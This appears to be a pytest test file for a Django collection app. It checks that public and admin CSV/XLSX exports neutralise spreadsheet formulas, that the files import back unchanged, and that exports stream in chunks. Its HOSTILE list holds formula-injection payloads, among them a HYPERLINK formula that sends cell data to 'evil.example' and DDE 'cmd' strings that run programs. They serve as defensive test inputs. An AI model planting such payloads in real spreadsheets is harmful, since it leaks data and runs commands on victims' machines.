"""
Every export (public and admin, CSV, JSON and XLSX) is safe to open in a spreadsheet and goes to
the end of the collection: exports.formats, desk.imports, exports.views.listing_export.
"""

import csv
import io
import json
import math

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from catalogue import index
from desk import imports
from exports import formats as exports
from exports.formats import neutralise, unneutralise
from gifts.models import Gift
from tests.factories import DonorFactory, GiftFactory
from tests.gifts.test_import_export import confirm, dry_run, grant_import

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def body(response):
    return b"".join(response.streaming_content).decode("utf-8-sig")


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_cell_gets_a_quote_and_loses_it_again(value):
    assert neutralise(value) == "'" + value
    assert unneutralise(neutralise(value)) == value


@pytest.mark.parametrize("value", ["Vase", "'quoted", "", "a=b", "1-2", 5, -5, None, True])
def test_other_cells_are_left_as_they_are(value):
    assert neutralise(value) == value
    if isinstance(value, str):
        assert unneutralise(value) == value


@pytest.fixture
def hostile(db):
    donor = DonorFactory(name="@Evil donor, Inc.")
    return [
        GiftFactory(
            accession_number=f"IFE-{number:04d}",
            title=title,
            donor=donor,
            country=donor.country,
            note="-note",
            status="published",
        )
        for number, title in enumerate(HOSTILE, 1)
    ]


def test_the_public_csv_neutralises_titles_and_names(client, hostile):
    rows = list(csv.DictReader(io.StringIO(body(client.get("/gifts/export.csv")))))
    assert sorted(row["title"] for row in rows) == sorted("'" + title for title in HOSTILE)
    assert {row["donor"] for row in rows} == {"'@Evil donor, Inc."}
    # JSON is not read by spreadsheets: it keeps the text as it is.
    records = json.loads(body(client.get("/gifts/export.json")))
    assert sorted(r["title"] for r in records) == sorted(HOSTILE)


def test_the_public_donor_csv_neutralises_names(client, hostile):
    rows = list(csv.DictReader(io.StringIO(body(client.get("/donors/export.csv")))))
    assert [row["name"] for row in rows] == ["'@Evil donor, Inc."]


def drop_whitespace_titles():
    # The import strips a cell's surrounding whitespace, as it always has (and an XLSX file keeps
    # a carriage return as a line feed): only the tab and CR titles would not round-trip.
    Gift.objects.filter(title__in=HOSTILE[4:]).delete()


def admin_export(client, file_format, query=""):
    response = client.post(
        reverse("admin:gifts_gift_export") + query, {"format": file_format, "resource": "0"}
    )
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_the_admin_csv_neutralises_and_imports_back_unchanged(client, curator, hostile):
    grant_import(curator)
    client.force_login(curator)
    exported = admin_export(client, "0")
    rows = list(csv.DictReader(io.StringIO(exported.decode())))
    assert sorted(row["title"] for row in rows) == sorted("'" + title for title in HOSTILE)
    assert {row["note"] for row in rows} == {"'-note"}
    drop_whitespace_titles()
    exported = admin_export(client, "0")
    before = list(Gift.objects.order_by("pk").values_list("title", "note"))
    # Edit one title in the file: only that record changes, and the others come back as
    # they were, without the quote.
    edited = exported.replace(b"'-2+3", b"'-2+4")
    upload = SimpleUploadedFile("gifts.csv", edited, content_type="text/csv")
    preview = dry_run(client, upload)
    assert "0 to create, 1 to update, 3 unchanged, 0 with problems" in preview.content.decode()
    confirm(client, preview)
    after = list(Gift.objects.order_by("pk").values_list("title", "note"))
    assert after == [("-2+4", "-note") if t == "-2+3" else (t, n) for t, n in before]


def test_the_admin_xlsx_has_no_formula_cells(client, curator, hostile):
    grant_import(curator)
    client.force_login(curator)
    drop_whitespace_titles()
    exported = admin_export(client, "1")
    sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    header = [cell.value for cell in next(sheet.iter_rows())]
    titles = [row[header.index("title")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(titles) == sorted("'" + title for title in HOSTILE[:4])
    upload = SimpleUploadedFile("gifts.xlsx", exported)
    preview = dry_run(client, upload, file_format="1")
    assert "0 to create, 0 to update, 4 unchanged, 0 with problems" in preview.content.decode()


def test_an_xlsx_export_larger_than_a_sheet_is_refused_with_the_reason(
    client, curator, hostile, monkeypatch
):
    monkeypatch.setattr(imports, "XLSX_MAX_ROWS", 5)
    client.force_login(curator)
    response = client.post(reverse("admin:gifts_gift_export"), {"format": "1", "resource": "0"})
    assert response.status_code == 200
    assert "more than an Excel sheet holds" in response.content.decode()
    assert "export them as CSV" in response.content.decode()


@pytest.fixture
def specimens(collection):
    from django.core.management import call_command

    call_command("generate_specimens", count=2500, seed=2, stdout=io.StringIO())


def listing_count(**filters):
    return index.collection().select(index.Selection(filters=filters)).count


@pytest.mark.parametrize("query", [{}, {"confidence": "B"}], ids=["all", "filtered"])
def test_public_exports_have_every_row_of_the_listing(client, specimens, query):
    filters = {key: [value] for key, value in query.items()}
    expected = listing_count(**filters)
    assert expected > 500
    rows = list(csv.DictReader(io.StringIO(body(client.get("/gifts/export.csv", query)))))
    assert len(rows) == expected
    assert len({row["accession_number"] for row in rows}) == expected
    assert len(json.loads(body(client.get("/gifts/export.json", query)))) == expected
    first = Gift.objects.get(accession_number=rows[0]["accession_number"])
    assert rows[0]["url"] == settings.SITE_URL + first.get_absolute_url()


@pytest.mark.parametrize("query", ["", "?status__exact=published"], ids=["all", "filtered"])
def test_admin_exports_have_every_row_of_the_changelist(client, curator, specimens, query):
    client.force_login(curator)
    gifts = Gift.objects.all()
    if query:
        gifts = gifts.filter(status="published")
    expected = gifts.count()
    assert expected > 1000
    rows = list(csv.DictReader(io.StringIO(admin_export(client, "0", query).decode())))
    assert len(rows) == expected
    assert len({row["accession_number"] for row in rows}) == expected
    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(client, "1", query))).active
    assert sheet.max_row - 1 == expected


def gift_queries(queries):
    return [q for q in queries if '"gifts_gift"' in q["sql"] and "COUNT" not in q["sql"]]


def test_exports_read_a_chunk_per_query_whatever_the_size(client, curator, specimens, monkeypatch):
    # Memory is bounded by the chunk: one query per chunk of rows, never the whole collection.
    monkeypatch.setattr(exports, "CHUNK", 500)
    monkeypatch.setattr(imports, "EXPORT_CHUNK", 500)
    published = listing_count()
    with CaptureQueriesContext(connection) as queries:
        body(client.get("/gifts/export.csv"))
    assert len(gift_queries(queries)) == math.ceil(published / 500)
    client.force_login(curator)
    total = Gift.objects.count()
    with CaptureQueriesContext(connection) as queries:
        admin_export(client, "0")
    reads = [q for q in gift_queries(queries) if "LIMIT 500" in q["sql"]]
    assert len(reads) == total // 500 + 1
